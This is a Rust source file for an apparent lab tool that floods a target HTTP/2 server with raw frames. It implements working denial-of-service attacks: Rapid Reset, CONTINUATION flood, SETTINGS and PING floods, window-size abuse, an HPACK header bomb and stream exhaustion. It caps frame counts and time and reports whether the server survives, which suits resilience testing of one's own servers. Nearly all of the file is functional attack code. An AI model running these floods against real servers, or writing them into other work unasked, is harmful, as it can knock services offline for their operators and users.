//! Abuse of HTTP/2 on raw frames. Bounded in frames and time, and only ever against the address that it is given.

use std::{
    net::SocketAddr,
    sync::{Arc, Mutex, PoisonError},
    time::Duration,
};

use anyhow::{Context as _, Result};
use clap::Args;
use lab::apps::{Attack, AttackKind, Bytes, End, Goaway};
use tokio::{
    io::{self, AsyncWriteExt as _, BufReader},
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    sync::Notify,
    time::{Instant, timeout_at},
};

use crate::{
    frames::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
        PREFACE, RST_STREAM, WINDOW_UPDATE, indexed, literals,
    },
    print,
};

/// So many bytes go out in one write.
const BATCH: usize = 32 * 1024;
/// By this the answer to the last ping is known from those to a flood of them.
const LAST_PING: [u8; 8] = *b"lab-last";
/// References to one large header in a bomb: half a frame of them.
const BOMB: usize = 8000;
/// The large header: nearly all of a dynamic table of the default size.
const BOMB_VALUE: usize = 4000;
/// RFC 9113 section 6.9.1.
const LARGEST_WINDOW: u32 = (1 << 31) - 1;
/// The first entry of HPACK's dynamic table, in one byte.
const FIRST_DYNAMIC: u8 = 128 + 62;

#[derive(Debug, Args)]
pub struct Options {
    /// What the server is bothered with
    kind: AttackKind,
    /// Where to connect to
    to: SocketAddr,
    /// How many frames at most; streams, for those that are about streams
    #[arg(long, default_value_t = 10_000)]
    count: u64,
    /// How long it may take, in milliseconds, the wait for an end included
    #[arg(long, default_value_t = 10_000)]
    limit_ms: u64,
    /// How long to wait for the server's reaction after the last frame, in milliseconds
    #[arg(long, default_value_t = 1000)]
    linger_ms: u64,
    /// Leave once so many streams were reset
    #[arg(long, default_value_t = u64::MAX)]
    until_resets: u64,
    /// Read nothing until the last frame is written, so that answers pile up
    #[arg(long)]
    deaf: bool,
    /// With that, how long to go on reading nothing after the last frame, in milliseconds
    #[arg(long, default_value_t = 0)]
    deaf_ms: u64,
    /// The path of the requests
    #[arg(long, default_value = "/")]
    path: String,
    /// The authority of the requests
    #[arg(long, default_value = "lab")]
    authority: String,
}

/// What was read, shared with the task that reads.
#[derive(Debug, Default)]
struct Seen {
    report: Mutex<Report>,
    ended: Notify,
    answered: Notify,
    until_resets: u64,
    all_reset: Notify,
}

#[derive(Debug, Default, Clone)]
struct Report {
    goaway: Option<Goaway>,
    resets: std::collections::BTreeMap<u32, u64>,
    answers: u64,
    data_bytes: u64,
    frames: u64,
    end: Option<End>,
    alive: bool,
}

impl Options {
    pub async fn run(self) -> Result<()> {
        let began = Instant::now();
        let deadline = began + Duration::from_millis(self.limit_ms);
        let stream = timeout_at(deadline, TcpStream::connect(self.to)).await??;
        stream.set_nodelay(true)?;
        let (reader, mut writer) = stream.into_split();
        let seen = Arc::new(Seen { until_resets: self.until_resets, ..Seen::default() });
        let mut reader = Some(reader);
        if !self.deaf {
            tokio::spawn(Arc::clone(&seen).read(reader.take().context("a socket has two halves")?));
        }
        let mut sent = Sent::default();
        let written = timeout_at(deadline, self.attack(&mut writer, &mut sent)).await;
        if let Some(reader) = reader {
            tokio::time::sleep(Duration::from_millis(self.deaf_ms)).await;
            tokio::spawn(Arc::clone(&seen).read(reader));
        }
        let all_written = matches!(written, Ok(Ok(())));
        let end = self.end(&seen, &mut writer, deadline, all_written).await;
        let report = seen.report();
        print(&Attack {
            kind: self.kind,
            frames_sent: sent.frames,
            bytes_sent: sent.bytes,
            end,
            goaway: report.goaway,
            resets: report.resets,
            answers: report.answers,
            data_bytes: report.data_bytes,
            frames_received: report.frames,
            millis: began.elapsed().as_millis() as u64,
        })
    }

    async fn attack(&self, writer: &mut OwnedWriteHalf, sent: &mut Sent) -> io::Result<()> {
        let settings = match self.kind {
            AttackKind::ZeroWindow => Frame::settings(&[(INITIAL_WINDOW_SIZE, 0)]),
            AttackKind::OpenWindows => Frame::settings(&[(INITIAL_WINDOW_SIZE, LARGEST_WINDOW)]),
            _ => Frame::settings(&[]),
        };
        writer.write_all(&[PREFACE, &settings.encode()].concat()).await?;
        if let Some(opening) = self.opening() {
            sent.write(writer, 1, &opening).await?;
        }
        let mut batch = Vec::with_capacity(BATCH * 2);
        let mut frames = 0;
        for number in 0..self.count {
            for frame in self.frames(number) {
                batch.extend(frame.encode());
                frames += 1;
            }
            if batch.len() >= BATCH || number + 1 == self.count {
                sent.write(writer, frames, &batch).await?;
                batch.clear();
                frames = 0;
            }
        }
        Ok(())
    }

    /// What comes before the flood.
    fn opening(&self) -> Option<Vec<u8>> {
        let frame = match self.kind {
            AttackKind::ContinuationFlood => Frame::new(HEADERS, END_STREAM, 1, self.request("GET")),
            AttackKind::EmptyDataFlood => Frame::new(HEADERS, END_HEADERS, 1, self.request("POST")),
            // That of the connection has 65,535 already.
            AttackKind::OpenWindows => {
                Frame::new(WINDOW_UPDATE, 0, 0, (LARGEST_WINDOW - 65_535).to_be_bytes())
            }
            _ => return None,
        };
        Some(frame.encode())
    }

    /// One round of the attack.
    fn frames(&self, number: u64) -> Vec<Frame> {
        // A count that leaves the range of streams is the server's to refuse.
        let stream = (number as u32).wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff;
        let whole = END_STREAM | END_HEADERS;
        match self.kind {
            AttackKind::RapidReset => vec![
                Frame::new(HEADERS, whole, stream, self.request("GET")),
                Frame::new(RST_STREAM, 0, stream, 8_u32.to_be_bytes()),
            ],
            AttackKind::ContinuationFlood => {
                let header = literals(&[(&format!("x-lab-{number}"), "more of the same")]);
                vec![Frame::new(CONTINUATION, 0, 1, header)]
            }
            AttackKind::SettingsFlood => vec![Frame::settings(&[(3, 100 + number as u32 % 100)])],
            AttackKind::PingFlood => vec![Frame::new(PING, 0, 0, number.to_be_bytes())],
            AttackKind::ZeroWindow | AttackKind::OpenWindows => {
                vec![Frame::new(HEADERS, whole, stream, self.request("GET"))]
            }
            AttackKind::HeaderBomb => vec![Frame::new(HEADERS, whole, stream, self.bomb())],
            AttackKind::EmptyDataFlood => vec![Frame::new(DATA, 0, 1, [])],
            AttackKind::OpenStreams => vec![Frame::new(HEADERS, END_HEADERS, stream, self.request("POST"))],
        }
    }

    fn request(&self, method: &str) -> Vec<u8> {
        literals(&[
            (":method", method),
            (":scheme", "http"),
            (":authority", &self.authority),
            (":path", &self.path),
        ])
    }

    /// A request with one large header that goes into the table, and thousands of references to it, a byte each.
    fn bomb(&self) -> Vec<u8> {
        let mut block = self.request("GET");
        block.extend(indexed("x-lab-bomb", &"b".repeat(BOMB_VALUE)));
        block.extend([FIRST_DYNAMIC; BOMB]);
        block
    }

    /// Waits for the server's reaction, then asks whether it still answers.
    async fn end(&self, seen: &Seen, writer: &mut OwnedWriteHalf, deadline: Instant, whole: bool) -> End {
        let linger = (Instant::now() + Duration::from_millis(self.linger_ms)).min(deadline);
        tokio::select! {
            () = seen.ended() => return seen.report().end.unwrap_or(End::Closed),
            () = seen.all_reset.notified() => {}
            () = tokio::time::sleep_until(linger) => {}
        }
        // Within an open header block nothing else may be asked; and what was not taken is not answered.
        let may_ask = whole && self.kind != AttackKind::ContinuationFlood;
        if may_ask && writer.write_all(&Frame::new(PING, 0, 0, LAST_PING).encode()).await.is_ok() {
            let patience = deadline.max(Instant::now() + Duration::from_millis(self.linger_ms));
            let _ = timeout_at(patience, seen.answered_or_ended()).await;
        }
        let report = seen.report();
        report.end.unwrap_or(if report.alive { End::Survived } else { End::Silent })
    }
}

/// What was written.
#[derive(Debug, Default)]
struct Sent {
    frames: u64,
    bytes: u64,
}

impl Sent {
    async fn write(&mut self, writer: &mut OwnedWriteHalf, frames: u64, bytes: &[u8]) -> io::Result<()> {
        writer.write_all(bytes).await?;
        self.frames += frames;
        self.bytes += bytes.len() as u64;
        Ok(())
    }
}

impl Seen {
    fn report(&self) -> Report {
        self.report.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    async fn ended(&self) {
        self.ended.notified().await;
    }

    async fn answered_or_ended(&self) {
        tokio::select! {
            () = self.ended.notified() => {}
            () = self.answered.notified() => {}
        }
    }

    async fn read(self: Arc<Self>, reader: OwnedReadHalf) {
        let mut reader = BufReader::with_capacity(BATCH, reader);
        loop {
            let frame = Frame::read(&mut reader).await;
            let mut report = self.report.lock().unwrap_or_else(PoisonError::into_inner);
            match frame {
                Ok(frame) => {
                    report.add(&frame);
                    if frame.kind == RST_STREAM && report.resets.values().sum::<u64>() >= self.until_resets {
                        self.all_reset.notify_one();
                    }
                    if frame.kind == PING && frame.flags & ACK != 0 && frame.payload == LAST_PING {
                        report.alive = true;
                        self.answered.notify_one();
                    }
                }
                Err(error) => {
                    let is_end = error.kind() == io::ErrorKind::UnexpectedEof;
                    report.end = Some(if is_end { End::Closed } else { End::Reset });
                    self.ended.notify_one();
                    return;
                }
            }
        }
    }
}

impl Report {
    fn add(&mut self, frame: &Frame) {
        self.frames += 1;
        match frame.kind {
            DATA => self.data_bytes += frame.payload.len() as u64,
            HEADERS => self.answers += 1,
            RST_STREAM => *self.resets.entry(frame.number(0)).or_default() += 1,
            GOAWAY => {
                let debug = frame.payload.get(8..).unwrap_or_default().to_vec();
                let last_stream = frame.number(0) & 0x7fff_ffff;
                self.goaway = Some(Goaway { code: frame.number(4), last_stream, debug: Bytes(debug) });
            }
            _ => {}
        }
    }
}
